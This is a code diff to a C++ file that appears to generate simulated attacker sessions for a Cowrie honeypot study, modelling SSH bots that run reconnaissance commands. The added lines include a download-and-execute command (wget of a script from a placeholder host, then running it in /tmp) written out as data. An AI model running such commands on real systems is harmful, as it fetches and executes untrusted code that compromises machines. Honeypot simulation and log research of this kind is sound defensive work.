@@ -106,7 +106,8 @@ constexpr DialogueLine kShellProbe[] = {BUSYTRAP_OPENING_LINES};
 #undef BUSYTRAP_OPENING_LINES
 
 // --- SSH bots that log in and run reconnaissance (group 0: the SSH-key implant line or a
-// multi-line exec command, which Cowrie logs as one input containing newlines).
+// multi-line exec command, which Cowrie logs as one input containing newlines), sometimes
+// followed by a download through `sh -c '…'`.
 constexpr ChoiceGroup kSshExecChoices[] = {{{60, 40, 0, 0}}};
 constexpr DialogueLine kSshExec[] = {
     {.text = "uname -a", .percent = 50},
@@ -120,6 +121,9 @@ constexpr DialogueLine kSshExec[] = {
      .group = 0, .options = in(0)},
     {.text = "cat /proc/cpuinfo | grep name | wc -l{L}uname -s -v -n -r -m{L}free -m | grep Mem",
      .group = 0, .options = in(1)},
+    // A `;` inside quotes: one command line for the paper's splitter, not three.
+    {.text = "sh -c 'cd /tmp; wget http://{H}/x.sh; sh x.sh'", .percent = 40,
+     .download_url = "http://{H}/x.sh"},
 };
 
 // Session weights: per thousand sessions of the paper's week, roughly. The Mirai scanner tries
